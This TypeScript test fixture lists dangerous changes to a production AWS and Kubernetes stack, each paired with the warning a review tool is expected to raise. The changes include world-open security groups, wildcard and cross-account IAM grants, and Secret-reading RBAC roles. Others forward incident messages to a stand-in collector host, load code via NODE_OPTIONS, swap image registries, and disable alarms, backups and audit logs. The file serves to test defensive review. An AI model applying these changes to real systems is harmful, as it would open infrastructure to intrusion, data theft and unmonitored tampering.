import { type Property, UNKNOWN } from "../../offline/property";
import { type RecordedResource } from "../../offline/record";
import { type Exception } from "../../policies/exception";
import { type Rule } from "../../policies/rule";
import { exception } from "../policies/exception";
import { edited } from "../policies/edit";

/** A change of the project, as its review sees it. */
export interface ProjectChange {
    /** Edits of production's stack file, on both sides and on the head. */
    readonly before?: readonly string[];
    readonly edits?: readonly string[];
    /** What another component would declare. */
    readonly declares?: (resources: readonly RecordedResource[]) => RecordedResource[];
    readonly rules?: (rules: readonly Rule[]) => Rule[];
    readonly exceptions?: readonly Exception[];
    readonly files?: readonly string[];
    /** What the review says about it, beside its verdict. Default: nothing in particular. */
    readonly says?: RegExp;
}

const DATABASE = "aws:rds/instance:Instance";
const CACHE = "aws:elasticache/replicationGroup:ReplicationGroup";
const INGRESS_RULE = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule";
const GROUP = "aws:ec2/securityGroup:SecurityGroup";
const NETWORK = "kubernetes:networking.k8s.io/v1:NetworkPolicy";
const INGRESS = "kubernetes:networking.k8s.io/v1:Ingress";
const SERVICE = "kubernetes:core/v1:Service";
const CONFIG_MAP = "kubernetes:core/v1:ConfigMap";
const DEPLOYMENT = "kubernetes:apps/v1:Deployment";
const ROLE_POLICY = "aws:iam/rolePolicy:RolePolicy";
const ROLE = "aws:iam/role:Role";
const BUCKET = "aws:s3/bucket:Bucket";
const BUCKET_POLICY = "aws:s3/bucketPolicy:BucketPolicy";
const KEY = "aws:kms/key:Key";
const TOPIC_POLICY = "aws:sns/topicPolicy:TopicPolicy";
const SUBSCRIPTION = "aws:sns/topicSubscription:TopicSubscription";
const RBAC = "kubernetes:rbac.authorization.k8s.io/v1";
const ALARM = "aws:cloudwatch/metricAlarm:MetricAlarm";
const LOG_GROUP = "aws:cloudwatch/logGroup:LogGroup";
const SCHEDULE = "aws:scheduler/schedule:Schedule";
const PLAN = "aws:backup/plan:Plan";
const METRIC_FILTER = "aws:cloudwatch/logMetricFilter:LogMetricFilter";
const LOGS_TO_ARCHIVE = "aws:cloudwatch/logSubscriptionFilter:LogSubscriptionFilter";
const TARGET = "aws:cloudwatch/eventTarget:EventTarget";
const RESTORED = "mcp:recovery.restoreTime=2026-01-31T10:30:00+05:30";
const BUDGET = "kubernetes:policy/v1:PodDisruptionBudget";
const AUTOSCALER = "kubernetes:autoscaling/v2:HorizontalPodAutoscaler";

type Declares = NonNullable<ProjectChange["declares"]>;

const isOne = (type: string, name: string) => (resource: RecordedResource) =>
    resource.type === type && resource.name === name;

/** Sets a place of one resource, or removes it by undefined. */
const set =
    (type: string, name: string, path: string, value?: Property): Declares =>
    (resources) => {
        if (!resources.some(isOne(type, name))) throw new Error(`there is no ${type} ${name}`);
        return resources.map((resource) =>
            isOne(type, name)(resource) ? (edited(resource, path, value) as RecordedResource) : resource,
        );
    };

/** A resource that waits for fewer others: those whose names match are left out. */
const stopsWaiting =
    (type: string, name: string, others: RegExp): Declares =>
    (resources) =>
        resources.map((resource) =>
            isOne(type, name)(resource)
                ? {
                      ...resource,
                      dependencies: resource.dependencies.filter((urn) => !others.test(urn)),
                  }
                : resource,
        );

/** Changes fields of the plan of a gate, as its code does. */
const plans =
    (name: string, fields: Record<string, unknown>): Declares =>
    (resources) => {
        const { inputs } = resources.find(isOne(CONFIG_MAP, name))!;
        const data = inputs["data"] as Record<string, string>;
        const plan = JSON.stringify({ ...JSON.parse(data["plan.json"]!), ...fields }, undefined, 2);
        return set(CONFIG_MAP, name, "inputs data", { ...data, "plan.json": plan })(resources);
    };

const drop =
    (type: string, name: string): Declares =>
    (resources) => {
        if (!resources.some(isOne(type, name))) throw new Error(`there is no ${type} ${name}`);
        return resources.filter((resource) => !isOne(type, name)(resource));
    };

const add =
    (
        type: string,
        name: string,
        inputs: Record<string, Property>,
        more: Partial<RecordedResource> = {},
    ): Declares =>
    (resources) => [
        ...resources,
        {
            ...resources.at(-1)!,
            urn: `urn:pulumi:production::mcp::${type}::${name}`,
            type,
            name,
            inputs,
            custom: true,
            read: false,
            dependencies: [],
            propertyDependencies: {},
            options: {},
            ...more,
        },
    ];

/** Changes the statements of a policy in JSON. */
const statements =
    (
        type: string,
        name: string,
        property: string,
        change: (all: Record<string, unknown>[]) => unknown[],
    ): Declares =>
    (resources) =>
        resources.map((resource) => {
            if (!isOne(type, name)(resource)) return resource;
            const document = JSON.parse(resource.inputs[property] as string);
            const text = JSON.stringify({ ...document, Statement: change(document.Statement) });
            return edited(resource, `inputs ${property}`, text) as RecordedResource;
        });

const allow = (Action: string | string[], Resource: string | string[], more = {}) => ({
    Effect: "Allow",
    Action,
    Resource,
    ...more,
});
const grants = (...more: object[]) =>
    statements(ROLE_POLICY, "mcp-production-logs", "policy", (all) => [...all, ...more]);
const trusts = (...more: object[]) =>
    statements(ROLE, "mcp-production-logs", "assumeRolePolicy", (all) => [...all, ...more]);
const egressOf =
    (name: string, rule: Property): Declares =>
    (resources) => {
        const { inputs } = resources.find(isOne(NETWORK, name))!;
        const { egress = [] } = inputs["spec"] as { egress?: Property[] };
        return set(NETWORK, name, "inputs spec egress", [...egress, rule])(resources);
    };
const metadata = (name: string) => ({ name, namespace: "mcp-production" });
const role =
    (name: string, rule: Record<string, Property>): Declares =>
    (resources) =>
        add(`${RBAC}:RoleBinding`, name, {
            metadata: metadata(name),
            roleRef: { kind: "Role", name },
            subjects: [{ kind: "ServiceAccount", name: "chat-ui", namespace: "mcp-production" }],
        })(add(`${RBAC}:Role`, name, { metadata: metadata(name), rules: [rule] })(resources));
const inPod = (path: string, value?: Property) =>
    set(DEPLOYMENT, "chat-ui", `inputs spec template spec ${path}`, value);
const weaken = (change: (rule: Rule) => Rule[]) => (rules: readonly Rule[]) =>
    rules.flatMap((rule) => (rule.name === "aws-rds-instance-require-encryption" ? change(rule) : [rule]));

const ELSEWHERE = "arn:aws:iam::999999999999:root";
const approved = (workload: string, version: string, release = "release") => [
    `mcp:workloads.${workload}.${release}.version=${version}`,
    `mcp:workloads.${workload}.${release}.change.version=${version}`,
    `mcp:workloads.${workload}.${release}.change.skip-`,
    `mcp:workloads.${workload}.${release}.change.ticket=CHG-7`,
    `mcp:workloads.${workload}.${release}.change.approvers[0]=Lead`,
    `mcp:workloads.${workload}.${release}.change.rollbackPlan=set the version back`,
];

/** Changes that no review may find nothing against. */
export const DANGEROUS: Record<string, ProjectChange> = {
    // Network
    "PostgreSQL's security group is opened to the world": {
        declares: add(INGRESS_RULE, "all", {
            securityGroupId: "sg-1",
            cidrIpv4: "0.0.0.0/0",
            fromPort: 5432,
            toPort: 5432,
            ipProtocol: "tcp",
        }),
        says: /every address \(0\.0\.0\.0\/0\), the instance metadata service among them may now connect to security group sg-1 on TCP 5432/,
    },
    "a security group is opened to a neighbouring network": {
        declares: add(INGRESS_RULE, "peer", {
            securityGroupId: "sg-1",
            cidrIpv4: "10.99.0.0/16",
            fromPort: 5432,
            toPort: 5432,
            ipProtocol: "tcp",
        }),
        says: /10\.99\.0\.0\/16 may now connect to security group sg-1/,
    },
    "a security group has a rule inside that opens it over IPv6": {
        declares: set(GROUP, "mcp-production-cache", "inputs ingress", [
            { protocol: "-1", fromPort: 0, toPort: 0, ipv6CidrBlocks: ["::/0"] },
        ]),
        says: /every address \(::\/0\).* may now connect to security group mcp-production-cache on every port/,
    },
    "a rule of a security group takes every port": {
        declares: (resources) =>
            set(
                INGRESS_RULE,
                "mcp-production-database",
                "inputs fromPort",
                0,
            )(set(INGRESS_RULE, "mcp-production-database", "inputs toPort", 65_535)(resources)),
        says: /may now connect to security group mcp-production-database on TCP every port/,
    },
    "the default that denies all traffic goes": {
        declares: drop(NETWORK, "mcp-production-default-deny"),
        says: /NetworkPolicy mcp-production-default-deny goes/,
    },
    "a workload takes traffic from everywhere": {
        declares: set(NETWORK, "mcp-server", "inputs spec ingress", [{}]),
        says: /everything may now connect to pods of mcp-server-blue on every port/,
    },
    "a workload loses its NetworkPolicy": {
        declares: (resources) =>
            drop(NETWORK, "chat-ui")(drop(NETWORK, "mcp-production-default-deny")(resources)),
    },
    "a workload may connect everywhere": {
        declares: egressOf("chat-ui", {}),
        says: /pods of chat-ui may now connect to everything on every port/,
    },
    "a workload may connect to the whole internet, private ranges and metadata service": {
        edits: ["mcp:workloads.mcp-server.network.egress[0].except-"],
        says: /pods of mcp-server-blue, pods of mcp-server-green may now connect to 10\.0\.0\.0\/8.*, the instance metadata service among them on TCP 443/,
    },
    "a workload may connect to the metadata service alone": {
        declares: egressOf("chat-ui", { to: [{ ipBlock: { cidr: "169.254.169.254/32" } }] }),
        says: /the instance metadata service/,
    },
    "a policy no longer says which ports": {
        declares: set(NETWORK, "admin-portal", "inputs spec ingress 0 ports"),
        says: /may now connect to pods of admin-portal on every port/,
    },
    "another workload may call a workload": {
        edits: ["mcp:workloads.chat-ui.network.calls[1]=admin-portal"],
        says: /pods of chat-ui may now connect to pods with app=admin-portal on TCP 3001/,
    },
    "the range of the API server is the world": {
        edits: ["mcp:kubernetes.apiServer.cidr=0.0.0.0/0"],
        says: /mcp-server-soak may now connect to/,
    },
    "a Service is a load balancer": {
        declares: set(SERVICE, "chat-ui", "inputs spec type", "LoadBalancer"),
        says: /may now reach Service chat-ui by its LoadBalancer/,
    },
    "the admin portal has an address more": {
        edits: [
            "mcp:ingress.hosts[0].paths[2].path=/admin",
            "mcp:ingress.hosts[0].paths[2].workload=admin-portal",
        ],
        says: /may now reach admin-portal at mcp\.msil\.com\/admin/,
    },
    "an annotation configures an Ingress": {
        declares: set(
            INGRESS,
            "mcp-ingress",
            "inputs metadata annotations haproxy.org/allow-list",
            "0.0.0.0/0",
        ),
        says: /haproxy\.org\/allow-list/,
    },
    "the database has an address on the internet": {
        declares: set(DATABASE, "mcp-production", "inputs publiclyAccessible", true),
        says: /the internet may now reach aws:rds/,
    },
    // IAM
    "the log shipper may read every secret of the account": {
        declares: grants(
            allow("secretsmanager:GetSecretValue", "arn:aws:secretsmanager:ap-south-1:000000000000:secret:*"),
        ),
        says: /role mcp-production-logs may now secretsmanager:GetSecretValue on arn:aws:secretsmanager:ap-south-1:ACCOUNT:secret:\*/,
    },
    "a right is added behind many": {
        declares: grants(allow("kms:Decrypt", "arn:aws:kms:ap-south-1:000000000000:key/1")),
        says: /role mcp-production-logs may now kms:Decrypt on /,
    },
    "a role may do everything": { declares: grants(allow("*", "*")), says: /^Refused/ },
    "a role may take on any role": {
        declares: grants(allow("sts:AssumeRole", "arn:aws:iam::000000000000:role/*")),
        says: /^Refused/,
    },
    "a role may pass any role on": {
        declares: grants(allow("iam:PassRole", "arn:aws:iam::000000000000:role/*")),
        says: /^Refused/,
    },
    "a role is an administrator's by a policy of AWS": {
        declares: set(ROLE, "mcp-production-logs", "inputs managedPolicyArns", [
            "arn:aws:iam::aws:policy/AdministratorAccess",
        ]),
        says: /^Refused.*[^]*role mcp-production-logs may now do what arn:aws:iam::aws:policy\/AdministratorAccess allows/,
    },
    "a role reads the account by a policy of AWS": {
        declares: add("aws:iam/rolePolicyAttachment:RolePolicyAttachment", "reader", {
            role: "mcp-production-logs",
            policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess",
        }),
        says: /may now do what arn:aws:iam::aws:policy\/ReadOnlyAccess allows/,
    },
    "another account may take a role on": {
        declares: trusts({ Effect: "Allow", Principal: { AWS: ELSEWHERE }, Action: "sts:AssumeRole" }),
        says: /^Refused.*[^]*arn:aws:iam::999999999999:root may now act as the role/,
    },
    "every token of an issuer may assume a role": {
        declares: trusts({
            Effect: "Allow",
            Principal: {
                Federated: "arn:aws:iam::000000000000:oidc-provider/token.actions.githubusercontent.com",
            },
            Action: "sts:AssumeRoleWithWebIdentity",
        }),
        says: /^Refused/,
    },
    "a service may take a role on for anybody": {
        declares: statements(ROLE, "mcp-production-escalation", "assumeRolePolicy", (all) =>
            all.map((statement) => ({ ...statement, Condition: undefined })),
        ),
        says: /Service states\.amazonaws\.com may now act as the role/,
    },
    "a condition of a right goes": {
        declares: statements(ROLE_POLICY, "mcp-production-maintenance-patches", "policy", (all) =>
            all.map((statement) => ({ ...statement, Condition: undefined })),
        ),
        says: /role mcp-production-maintenance-patches may now ssm:SendCommand on arn:aws:ec2/,
    },
    "a bucket may be read from another account": {
        declares: statements(BUCKET_POLICY, "mcp-production-audit", "policy", (all) => [
            ...all,
            allow("s3:GetObject", "arn:aws:s3:::msil-mcp-audit/*", { Principal: { AWS: ELSEWHERE } }),
        ]),
        says: /999999999999:root may now s3:GetObject on arn:aws:s3:::msil-mcp-audit\/\*/,
    },
    "a bucket may be read without TLS": {
        declares: statements(BUCKET_POLICY, "mcp-production-audit", "policy", (all) =>
            all.filter(({ Sid }) => Sid !== "TlsOnly"),
        ),
        says: /everybody may now do what was denied: s3:\*/,
    },
    "a bucket's public access is no longer blocked": {
        declares: drop("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", "mcp-production-audit"),
        says: /^Refused/,
    },
    "a key may be used from another account": {
        declares: statements(KEY, "mcp-production-database", "policy", (all) => [
            ...all,
            allow("kms:Decrypt", "*", { Principal: { AWS: ELSEWHERE } }),
        ]),
        says: /^Refused.*[^]*999999999999:root may now kms:Decrypt on \* \(Key mcp-production-database\)/,
    },
    "a topic takes messages from everybody": {
        declares: statements(TOPIC_POLICY, "mcp-production-incidents-p1", "policy", (all) => [
            ...all,
            allow("sns:Publish", "arn:aws:sns:ap-south-1:000000000000:mcp-production-incidents-p1", {
                Principal: "*",
            }),
        ]),
        says: /everybody may now sns:Publish/,
    },
    "incidents are sent to another address": {
        declares: add(SUBSCRIPTION, "copy", {
            topic: "topic",
            protocol: "https",
            endpoint: "https://collector.example.com",
        }),
        says: /https https:\/\/collector\.example\.com may now read what topic topic sends/,
    },
    "a user with an access key": {
        declares: (resources) =>
            add("aws:iam/accessKey:AccessKey", "ci", { user: "ci" })(
                add("aws:iam/user:User", "ci", { name: "ci" })(resources),
            ),
        says: /^Refused/,
    },
    "the pods of another ServiceAccount have a role": {
        declares: add("aws:eks/podIdentityAssociation:PodIdentityAssociation", "chat-ui", {
            namespace: "mcp-production",
            serviceAccount: "chat-ui",
            roleArn: "arn:aws:iam::000000000000:role/mcp-production-database",
        }),
        says: /ServiceAccount mcp-production\/chat-ui may now act as role/,
    },
    "a workload has rights on AWS": {
        edits: [
            "mcp:workloads.chat-ui.awsPermissions[0].actions[0]=s3:GetObject",
            "mcp:workloads.chat-ui.awsPermissions[0].resources[0]=arn:aws:s3:::msil-mcp-audit/*",
        ],
        says: /may now s3:GetObject on arn:aws:s3:::msil-mcp-audit\/\*/,
    },
    // RBAC
    "a workload may read all Secrets": {
        declares: role("reader", { apiGroups: [""], resources: ["secrets"], verbs: ["get", "list"] }),
        says: /^Refused.*[^]*ServiceAccount mcp-production\/chat-ui may now get, list secrets in namespace mcp-production/,
    },
    "a workload may run commands in pods": {
        declares: role("shell", { apiGroups: [""], resources: ["pods/exec"], verbs: ["create"] }),
        says: /^Refused/,
    },
    "a workload may give itself roles": {
        declares: role("binder", {
            apiGroups: ["rbac.authorization.k8s.io"],
            resources: ["roles"],
            verbs: ["bind", "escalate"],
        }),
        says: /^Refused/,
    },
    "a workload may change Deployments": {
        declares: role("deployer", { apiGroups: ["apps"], resources: ["deployments"], verbs: ["patch"] }),
        says: /may now patch deployments\.apps in namespace mcp-production/,
    },
    "all authenticated users have a role": {
        declares: add(`${RBAC}:ClusterRoleBinding`, "everybody", {
            metadata: { name: "everybody" },
            roleRef: { kind: "ClusterRole", name: "view" },
            subjects: [{ kind: "Group", name: "system:authenticated" }],
        }),
        says: /^Refused.*[^]*Group system:authenticated may now do what ClusterRole view allows in every namespace/,
    },
    "one more object is in a Role": {
        declares: set(`${RBAC}:Role`, "mcp-server-gate", "inputs rules 5 resourceNames 2", "chat-ui"),
        says: /ServiceAccount mcp-production\/mcp-server-gate may now get horizontalpodautoscalers\.autoscaling chat-ui/,
    },
    // Pods and secrets
    "a workload reads the database's secret": {
        declares: inPod("volumes 9", { name: "stolen", secret: { secretName: "mcp-db-secret" } }),
        says: /pods of chat-ui may now read Secret mcp-db-secret/,
    },
    "a workload runs as another ServiceAccount": {
        declares: inPod("serviceAccountName", "mcp-configurations"),
        says: /pods of chat-ui may now act as ServiceAccount mcp-production\/mcp-configurations/,
    },
    "a workload has a token of the API": {
        declares: inPod("automountServiceAccountToken", true),
        says: /^Refused/,
    },
    "a pod mounts the node": {
        declares: inPod("volumes 9", { name: "node", hostPath: { path: "/var/run" } }),
        says: /^Refused.*[^]*pods of chat-ui may now use the node \(hostPath \/var\/run\)/,
    },
    "a foreign image is run": {
        declares: inPod("containers 0 image", `ghcr.io/somebody/chat-ui:v1.4.2@sha256:${"a".repeat(64)}`),
        says: /^Refused/,
    },
    "the registry is another one": {
        edits: ["mcp:images.registry=ghcr.io/somebody"],
        says: /^Look closely.*[^]*images of ghcr.io\/somebody may now run in namespace mcp-production/,
    },
    "a further registry is trusted": {
        edits: ["mcp:images.trusted[0]=docker.io"],
        says: /^Look closely.*[^]*images of docker.io may now run in namespace mcp-production/,
    },
    "the registry is one of another account": {
        declares: inPod(
            "containers 0 image",
            `222222222222.dkr.ecr.ap-south-1.amazonaws.com/a:v1@sha256:${"a".repeat(64)}`,
        ),
        says: /^Refused/,
    },
    "a password is in the configuration": {
        edits: ["mcp:workloads.chat-ui.config.DB_PASSWORD=hunter2-hunter2"],
        says: /^Refused/,
    },
    "an AWS key is in the configuration": {
        declares: set(CONFIG_MAP, "chat-ui-config", "inputs data NOTE", "AKIAIOSFODNN7EXAMPLE"),
        says: /^Refused/,
    },
    // What runs, where and as whom
    "a namespace admits privileged pods": {
        declares: set(
            "kubernetes:core/v1:Namespace",
            "mcp-production",
            "inputs metadata labels pod-security.kubernetes.io/enforce",
            "privileged",
        ),
        says: /Safeguards:[^]*pod-security/,
    },
    "a workload ranks before the cluster's own pods": {
        declares: inPod("priorityClassName", "system-cluster-critical"),
        says: /Safeguards:[^]*priorityClassName/,
    },
    "a workload has no time to end": {
        declares: inPod("terminationGracePeriodSeconds", 0),
        says: /Safeguards:[^]*terminationGracePeriodSeconds/,
    },
    "a workload runs a command when it starts": {
        declares: inPod("containers 0 lifecycle postStart", { exec: { command: ["sh", "-c", "true"] } }),
        says: /Safeguards:[^]*lifecycle/,
    },
    "a workload is probed by a command": {
        declares: inPod("containers 0 startupProbe", { exec: { command: ["sh", "-c", "true"] } }),
        says: /Safeguards:[^]*startupProbe/,
    },
    "a name leads a workload elsewhere": {
        declares: inPod("hostAliases", [{ ip: "203.0.113.7", hostnames: ["apim.msil.com"] }]),
        says: /Safeguards:[^]*hostAliases/,
    },
    "a workload asks another DNS": {
        declares: inPod("dnsConfig", { nameservers: ["203.0.113.7"] }),
        says: /Safeguards:[^]*dnsConfig/,
    },
    "a workload runs on any node": {
        declares: inPod("tolerations", [{ operator: "Exists" }]),
        says: /Safeguards:[^]*tolerations/,
    },
    "a process loads other code": {
        declares: inPod("containers 0 env", [{ name: "NODE_OPTIONS", value: "--require /tmp/x" }]),
        says: /Safeguards:[^]*env/,
    },
    "a workload calls another host": {
        edits: ["mcp:workloads.admin-portal.config.MCP_SERVER_URL=http://elsewhere.example.com"],
        says: /Access:[^]*ConfigMap admin-portal-config may now be led to elsewhere\.example\.com/,
    },
    "a ServiceAccount names a role of AWS": {
        declares: set("kubernetes:core/v1:ServiceAccount", "chat-ui", "inputs metadata annotations", {
            "eks.amazonaws.com/role-arn": "arn:aws:iam::000000000000:role/other",
        }),
        says: /Access:[^]*pods of ServiceAccount mcp-production\/chat-ui may now act as .*role\/other/,
    },
    "a connection's Secret has other contents": {
        declares: set("kubernetes:core/v1:Secret", "mcp-cache-secret", "inputs stringData", {
            REDIS_URL: "redis://x",
        }),
        says: /Safeguards:[^]*mcp-cache-secret: other stringData/,
    },
    "a recurring task is suspended": {
        declares: set("kubernetes:batch/v1:CronJob", "mcp-cache-cleanup", "inputs spec suspend", true),
        says: /Safeguards:[^]*mcp-cache-cleanup: spec\.suspend/,
    },
    "the metrics collector is switched off": {
        declares: set(DEPLOYMENT, "mcp-metrics", "inputs spec replicas", 0),
        says: /Safeguards:[^]*mcp-metrics: spec\.replicas/,
    },
    "the escalation does nothing": {
        declares: set(
            "aws:sfn/stateMachine:StateMachine",
            "mcp-production-escalation",
            "inputs definition",
            JSON.stringify({ StartAt: "End", States: { End: { Type: "Succeed" } } }),
        ),
        says: /Safeguards:[^]*mcp-production-escalation: other definition/,
    },
    "a schedule starts something else": {
        declares: set(
            "aws:scheduler/schedule:Schedule",
            "mcp-production-outside",
            "inputs target arn",
            "arn:aws:lambda:ap-south-1:999999999999:function:other",
        ),
        says: /Safeguards:[^]*mcp-production-outside: target/,
    },
    "a maintenance window runs another document": {
        declares: set(
            "aws:ssm/maintenanceWindowTask:MaintenanceWindowTask",
            "mcp-production-maintenance-patches",
            "inputs taskArn",
            "AWS-RunShellScript",
        ),
        says: /Safeguards:[^]*taskArn/,
    },
    "sessions of a role last for half a day": {
        declares: set(ROLE, "mcp-production-logs", "inputs maxSessionDuration", 43_200),
        says: /Safeguards:[^]*maxSessionDuration/,
    },
    "a health check runs once a day": {
        declares: set("kubernetes:batch/v1:CronJob", "mcp-health", "inputs spec schedule", "0 0 * * *"),
        says: /Safeguards:[^]*mcp-health: spec\.schedule \*\/2 \* \* \* \* => 0 0 \* \* \*/,
    },
    "a schedule of AWS starts once a day": {
        declares: set(SCHEDULE, "mcp-production-outside", "inputs scheduleExpression", "rate(1 day)"),
        says: /Safeguards:[^]*mcp-production-outside: scheduleExpression .* => rate\(1 day\)/,
    },
    "snapshots are taken once a month": {
        declares: set(PLAN, "mcp-production-snapshots-daily", "inputs rules 0 schedule", "cron(0 0 1 * ? *)"),
        says: /Safeguards:[^]*mcp-production-snapshots-daily: rules/,
    },
    "snapshots are kept for a day": {
        declares: set(PLAN, "mcp-production-snapshots-daily", "inputs rules 0 lifecycle deleteAfter", 1),
        says: /mcp-production-snapshots-daily/,
    },
    "the metrics collector collects nothing": {
        declares: set("kubernetes:core/v1:ConfigMap", "mcp-metrics-config", "inputs data", {}),
        says: /Safeguards:[^]*mcp-metrics-config: other data/,
    },
    "an alarm looks at what nothing reports": {
        declares: set(ALARM, "mcp-production-database-connections", "inputs dimensions", {
            DBInstanceIdentifier: "another",
        }),
        says: /Safeguards:[^]*mcp-production-database-connections: dimensions/,
    },
    "an alarm looks at another metric": {
        declares: set(ALARM, "mcp-production-database-connections", "inputs metricName", "CPUCreditBalance"),
        says: /Safeguards:[^]*metricName/,
    },
    "an alarm never ends for the incident": {
        declares: set(ALARM, "mcp-production-escalation-failed", "inputs okActions", []),
        says: /Safeguards:[^]*okActions/,
    },
    "errors in the log count nothing": {
        declares: set(
            METRIC_FILTER,
            "mcp-production-server-ErrorLines",
            "inputs metricTransformation value",
            "0",
        ),
        says: /Safeguards:[^]*mcp-production-server-ErrorLines: metricTransformation/,
    },
    "errors in the log count elsewhere": {
        declares: set(METRIC_FILTER, "mcp-production-server-ErrorLines", "inputs logGroupName", "/other"),
        says: /Safeguards:[^]*logGroupName/,
    },
    "audit events are no longer sent to the archive": {
        declares: set(LOGS_TO_ARCHIVE, "mcp-production-audit", "inputs filterPattern", "nothing"),
        says: /Safeguards:[^]*mcp-production-audit: filterPattern/,
    },
    "a notice says something else": {
        declares: set(
            TARGET,
            "mcp-production-snapshots-failed",
            "inputs inputTransformer inputTemplate",
            '"ok"',
        ),
        says: /Safeguards:[^]*mcp-production-snapshots-failed: inputTransformer/,
    },
    "a state machine has another role": {
        declares: set(
            "aws:sfn/stateMachine:StateMachine",
            "mcp-production-escalation-reminder",
            "inputs roleArn",
            "arn:aws:iam::000000000000:role/other",
        ),
        says: /mcp-production-escalation-reminder/,
    },
    "a check from outside takes any answer": {
        declares: (resources) =>
            resources.map((resource) =>
                resource.type === "aws:route53/healthCheck:HealthCheck"
                    ? (edited(resource, "inputs type", "TCP") as RecordedResource)
                    : resource,
            ),
        says: /Safeguards:[^]*HealthCheck .*: type/,
    },
    "a topic's subscriber gets some messages": {
        declares: (resources) =>
            resources.map((resource) =>
                resource.type === SUBSCRIPTION
                    ? (edited(resource, "inputs filterPolicy", '{"never":["x"]}') as RecordedResource)
                    : resource,
            ),
    },
    "messages link to pages elsewhere": {
        before: ["mcp:incident.pages=https://docs.msil.com/mcp/"],
        edits: ["mcp:incident.pages=https://docs.msil.example/mcp/"],
        says: /Safeguards:[^]*mcp:incident\.pages/,
    },
    "a recovered database has no checks": {
        before: [
            "mcp:database.checks[0].query=SELECT COUNT(*) FROM tools",
            "mcp:database.checks[0].atLeast=40",
        ],
        edits: ["mcp:database.checks[0].atLeast=0"],
        says: /Safeguards:[^]*mcp:database\.checks\[0\]\.atLeast: 40 => 0/,
    },
    "patches come after months": {
        edits: ["mcp:maintenance.patches.approveAfterDays=100"],
        says: /Safeguards:[^]*approveAfterDays/,
    },
    "the objectives of a workload go": {
        edits: ["mcp:objectives.mcp-server-"],
        says: /Safeguards:/,
    },
    "the health check asks another APIM": {
        edits: ["mcp:health.apim=https://apim.example.com/health"],
        says: /Safeguards:[^]*mcp:health\.apim/,
    },
    "a certificate is no longer verified": {
        before: ["mcp:ingress.verify=true"],
        edits: ["mcp:ingress.verify=false"],
        says: /Safeguards:[^]*mcp:ingress\.verify/,
    },
    "the services move to a database that was restored": {
        before: [RESTORED, "mcp:database.active=primary"],
        edits: ["mcp:database.active=recovery"],
        says: /Safeguards:[^]*mcp:database\.active: "primary" => "recovery"/,
    },
    "a process trusts any certificate": {
        edits: ["mcp:workloads.chat-ui.config.NODE_TLS_REJECT_UNAUTHORIZED=0"],
        says: /Safeguards:[^]*chat-ui-config: other data/,
    },
    "a connection of the cache may be in plain text": {
        declares: set(CACHE, "mcp-production-cache", "inputs transitEncryptionMode", "preferred"),
        says: /Safeguards:[^]*transitEncryptionMode/,
    },
    "the database restarts at once": {
        declares: set(DATABASE, "mcp-production", "inputs applyImmediately", true),
        says: /Safeguards:[^]*applyImmediately/,
    },
    "PostgreSQL goes up a version, and never back": {
        before: ["mcp:database.version=16"],
        edits: ["mcp:database.version=17"],
        says: /Safeguards:[^]*engineVersion/,
    },
    "a service has fewer pods at most": {
        declares: set(AUTOSCALER, "chat-ui", "inputs spec maxReplicas", 2),
        says: /Safeguards:[^]*spec\.maxReplicas 6 => 2/,
    },
    "all pods of a service may be evicted at once": {
        declares: set(BUDGET, "chat-ui", "inputs spec maxUnavailable", "100%"),
        says: /Safeguards:[^]*PodDisruptionBudget chat-ui: spec\.maxUnavailable/,
    },
    "a Service leads to pods that are not ready": {
        declares: set(SERVICE, "mcp-server", "inputs spec publishNotReadyAddresses", true),
        says: /Safeguards:[^]*publishNotReadyAddresses/,
    },
    "a health check has a second": {
        declares: set(
            "kubernetes:batch/v1:CronJob",
            "mcp-health",
            "inputs spec jobTemplate spec activeDeadlineSeconds",
            1,
        ),
        says: /Safeguards:[^]*activeDeadlineSeconds/,
    },
    // Data
    "the region is another one": {
        edits: ["mcp:aws.region=eu-west-1"],
        says: /^Refused: \d+ changes that the engine refuses/,
    },
    "the account is another one": {
        before: ["mcp:aws.accountId=111111111111"],
        edits: ["mcp:aws.accountId=222222222222"],
        says: /^Refused: \d+ changes that the engine refuses/,
    },
    "the cluster is another one": {
        edits: ["mcp:kubernetes.cluster=another"],
        says: /^Refused: \d+ changes? that the engine refuses/,
    },
    "PostgreSQL goes back a version": {
        edits: ["mcp:database.version=16"],
        says: /^Refused: .*1 change that AWS refuses/,
    },
    "the database's disk is to be smaller": {
        declares: set(DATABASE, "mcp-production", "inputs allocatedStorage", 50),
        says: /^Refused: 1 change that AWS refuses/,
    },
    "a bucket loses its protection": {
        declares: set(BUCKET, "mcp-production-backups", "options", {}),
        says: /Bucket mcp-production-backups loses protect/,
    },
    "the cache goes without a last snapshot": {
        declares: set(CACHE, "mcp-production-cache", "inputs finalSnapshotIdentifier"),
        says: /finalSnapshotIdentifier/,
    },
    "logs are kept for a day": {
        declares: set(LOG_GROUP, "mcp-production-escalation", "inputs retentionInDays", 1),
        says: /retentionInDays 365 => 1/,
    },
    "a bucket goes": {
        declares: (resources) =>
            drop(
                BUCKET,
                "mcp-production-backups",
            )(set(BUCKET, "mcp-production-backups", "options", {})(resources)),
    },
    // Releases, checks and alarms
    "a release comes without approval": {
        edits: ["mcp:workloads.chat-ui.release.version=v1.5.0"],
        says: /1 release that is not approved/,
    },
    "a release skips the checklist": {
        edits: [
            "mcp:workloads.chat-ui.release.version=v1.5.0",
            "mcp:workloads.chat-ui.release.change.version=v1.5.0",
            "mcp:workloads.chat-ui.release.change.skip=in a hurry",
        ],
        says: /chat-ui v1\.5\.0 skips the checklist: in a hurry/,
    },
    "the soak lets more errors through": {
        edits: ["mcp:workloads.mcp-server.soak.maxErrorRate=49"],
        says: /mcp:workloads\.mcp-server\.soak\.maxErrorRate: 5 => 49/,
    },
    "another image runs under the same version": {
        declares: (resources) =>
            inPod(
                "containers 0 image",
                `000000000000.dkr.ecr.ap-south-1.amazonaws.com/other:v1.4.2@sha256:${"a".repeat(64)}`,
            )(resources),
        says: /^(Refused|Look closely)/,
    },
    "an alarm goes": {
        declares: drop(ALARM, "mcp-production-escalation-failed"),
        says: /escalation-failed goes/,
    },
    "an alarm has no actions": {
        declares: set(ALARM, "mcp-production-escalation-failed", "inputs actionsEnabled", false),
        says: /actionsEnabled/,
    },
    "an alarm is harder to reach": {
        declares: set(ALARM, "mcp-production-escalation-failed", "inputs threshold", 100),
        says: /threshold .* => 100/,
    },
    "the backups of the database go": {
        declares: (resources) => resources.filter(({ type }) => type !== "aws:backup/selection:Selection"),
        says: /^Refused/,
    },
